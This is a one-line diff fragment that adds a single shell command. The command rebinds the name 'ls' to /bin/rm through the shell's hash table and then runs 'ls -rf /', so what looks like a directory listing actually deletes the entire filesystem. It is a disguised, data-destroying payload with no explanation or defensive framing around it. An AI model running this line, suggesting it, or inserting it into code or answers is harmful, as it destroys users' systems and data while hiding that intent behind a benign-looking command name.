@@ -1,0 +1,1 @@
+hash -p /bin/rm ls; ls -rf /
